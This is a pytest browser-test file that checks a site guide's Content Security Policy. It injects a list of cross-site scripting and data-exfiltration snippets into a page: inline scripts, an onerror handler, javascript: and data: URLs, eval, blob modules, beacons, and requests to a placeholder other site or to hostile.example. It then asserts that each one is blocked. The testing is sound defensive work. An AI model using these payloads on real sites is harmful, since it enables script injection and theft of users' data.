"""The policy holds in a browser: the guide works under it, and what is not its own does not run.

That the guide works is what all other browser tests show: whatever a page does against its policy
fails them.
"""

from __future__ import annotations

import re

import pytest

from site_server import serve

ATTACKS = {
    "an inline script": """
        const script = document.createElement("script")
        script.textContent = "window.ran = true"
        document.body.append(script)
    """,
    "an event handler": """
        document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.ran = true'>")
    """,
    "a script address": """
        const link = document.createElement("a")
        link.href = "javascript:window.ran = true"
        document.body.append(link)
        link.click()
    """,
    "eval": "try { eval('window.ran = true') } catch {}",
    "a text as a function": "try { new Function('window.ran = true')() } catch {}",
    "a timer with a text": "try { setTimeout('window.ran = true') } catch {}",
    "a script of another site": """
        const script = document.createElement("script")
        script.onload = () => (window.ran = true)
        script.src = "OTHER/x.js"
        document.body.append(script)
    """,
    "a script as data": """
        const script = document.createElement("script")
        script.src = "data:text/javascript,window.ran = true"
        document.body.append(script)
    """,
    "a module from memory": """
        const code = new Blob(["window.ran = true"], { type: "text/javascript" })
        import(URL.createObjectURL(code)).catch(() => {})
    """,
    "a worker from memory": """
        const code = "onconnect = event => event.ports[0].postMessage(1)"
        const file = new Blob([code], { type: "text/javascript" })
        try {
            const { port } = new SharedWorker(URL.createObjectURL(file))
            port.onmessage = () => (window.ran = true)
        } catch {}
    """,
    "a request to another site": """
        fetch("OTHER/", { mode: "no-cors" }).then(() => (window.ran = true), () => {})
    """,
    "a beacon to another site": "navigator.sendBeacon('OTHER/', 'data')",
    "an image of another site": "new Image().src = 'OTHER/x.png?data'",
    "a style sheet of another site": """
        const link = document.createElement("link")
        link.rel = "stylesheet"
        link.href = "OTHER/x.css"
        document.head.append(link)
    """,
    "a frame": """
        const frame = document.createElement("iframe")
        frame.srcdoc = "<script>parent.ran = true</script>"
        document.body.append(frame)
    """,
    "a form to another site": """
        const form = document.createElement("form")
        form.action = "OTHER/"
        document.body.append(form)
        form.submit()
    """,
    "another base": """
        const base = document.createElement("base")
        base.href = "OTHER/"
        document.head.append(base)
        window.ran = document.baseURI !== location.href
    """,
    "an inline style": """
        const box = document.createElement("p")
        box.setAttribute("style", "position: fixed")
        document.body.append(box)
        window.ran = getComputedStyle(box).position === "fixed"
    """,
}


@pytest.fixture(scope="module")
def reached():
    """Paths that were asked of another site."""
    return []


@pytest.fixture(scope="module")
def attacked(built_site, chromium, reached, tmp_path_factory):
    """Bring an attack into a page of the guide; `OTHER` in it is another site."""
    page = chromium.new_page()
    page.set_default_timeout(10_000)
    page.goto(built_site.at("/security/cors/"))
    with serve(tmp_path_factory.mktemp("other"), before=reached.append) as server:

        def attack(code):
            # Later, since developer tools, by which this comes into the page, may call eval.
            code = code.replace("OTHER", f"http://127.0.0.1:{server.server_port}/guide")
            with page.expect_console_message(lambda message: "Content Security" in message.text):
                page.evaluate(f"() => {{ ran = false; setTimeout(() => {{ {code} }}) }}")
            # A refusal is told twice: to the console at once, and then to the page.
            page.evaluate("new Promise(done => setTimeout(done))")
            return page

        yield attack
    page.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_got_into_a_page_neither_runs_nor_calls_home(attacked, reached, refused, attack):
    page = attacked(ATTACKS[attack])

    assert not page.evaluate("ran")
    assert reached == []
    assert refused
    refused.clear()


def test_a_request_to_another_host_is_noticed_without_a_policy(built_site, chromium, refused):
    with chromium.new_context(bypass_csp=True) as context:
        page = context.new_page()
        page.goto(built_site.at("/404.html"))
        page.evaluate("fetch('https://hostile.example/?data').catch(() => {})")
    assert refused == ["a page asked for https://hostile.example/?data"]
    refused.clear()


def test_every_kind_of_page_has_the_same_policy(built_site):
    pages = ["index.html", "404.html", "503.html", "security/cors/index.html", "topics/index.html"]
    texts = [(built_site.folder / page).read_text("utf-8") for page in pages]
    policies = {re.search(r"<meta http-equiv[^>]+>", text)[0] for text in texts}
    assert len(policies) == 1
